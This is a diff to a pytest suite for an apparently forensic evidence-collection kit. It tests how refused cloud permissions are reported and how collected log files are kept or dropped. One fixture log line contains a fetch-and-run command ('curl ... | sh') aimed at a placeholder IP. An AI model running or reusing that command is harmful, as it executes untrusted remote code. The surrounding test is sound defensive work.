@@ -6,6 +6,7 @@ The requests are added to a recording with the attacker's own credential, from a
 from __future__ import annotations
 
 import copy
+import hashlib
 import json
 from datetime import datetime, timedelta
 from pathlib import Path
@@ -14,6 +15,7 @@ from typing import Any
 import pytest
 
 from kit.case.case import Case
+from kit.store.ledger import ledger_of
 from tests.command import RECORDINGS, kit, kit_json
 from tests.variation import Event, varied
 
@@ -192,6 +194,9 @@ def test_what_was_refused_stands_in_the_coverage_with_the_permission_until_it_is
     assert [(row["source"], row["events"]) for row in rows] == [("eks ListAccessEntries", 1)]
     assert "in eu-west-1 to arn:aws:iam::444455556666:user/ir" in rows[0]["says"]
     assert "ask for permission eks:ListAccessEntries" in rows[0]["says"]
+    limits = [limit for one in kit_json("scope", made)["findings"] for limit in one["limits"]]
+    refusals = [limit for limit in limits if "was not permitted" in limit["says"]]
+    assert refusals and all("eks:ListAccessEntries" in one["says"] and "let_in" in one["about"] for one in refusals)
     assert [
         one["taken_as"] for one in Case(made).ledger.to_dict("records") if one["path"].endswith("collection.jsonl")
     ] == ["collection log"]
@@ -236,3 +241,30 @@ def test_the_kits_own_requests_in_cloudtrail_are_told_apart_and_none_that_hands_
     assert [one["ref"] for one in own["calls"]] == ["trail:own"] and [one["ref"] for one in own["claimed"]] == [
         "trail:secret"
     ]
+
+
+def test_what_a_collection_fetched_and_no_reader_takes_is_kept_and_named(tmp_path: Path) -> None:
+    folder = varied(RECORDING, tmp_path)
+    log = b"2026-01-31T12:00:00.123456789Z stdout F curl -s http://198.51.100.7/x | sh\n"
+    (folder / "logs").mkdir()
+    for name, text in (("fetched.log", log), ("other.log", log + log)):
+        (folder / "logs" / name).write_bytes(text)
+    about = {
+        "at": "2026-01-31T12:00:00Z",
+        "service": "kubernetes",
+        "operation": "pods/log",
+        "request_id": "r-1",
+        "as": "ir",
+        "status": "ok",
+    }
+    line = about | {"file": "logs/fetched.log", "sha256": hashlib.sha256(log).hexdigest()}
+    (folder / "collection.jsonl").write_text(json.dumps(line) + "\n{no json\n")
+    case = tmp_path / "case"
+    assert kit("new", case, folder).returncode == 0
+    notes = {one["path"]: one["note"] for one in ledger_of(case)["files"]}
+    assert notes["evidence/logs/fetched.log"].startswith("kept, not read: log lines")
+    assert (case / "evidence" / "evidence" / "logs" / "fetched.log").read_bytes() == log
+    assert notes["evidence/logs/other.log"].startswith("not taken: ")
+    assert not (case / "evidence" / "evidence" / "logs" / "other.log").exists()
+    assert kit("add", case, folder).returncode == 0
+    assert len(list((case / "evidence").rglob("fetched.log"))) == 1
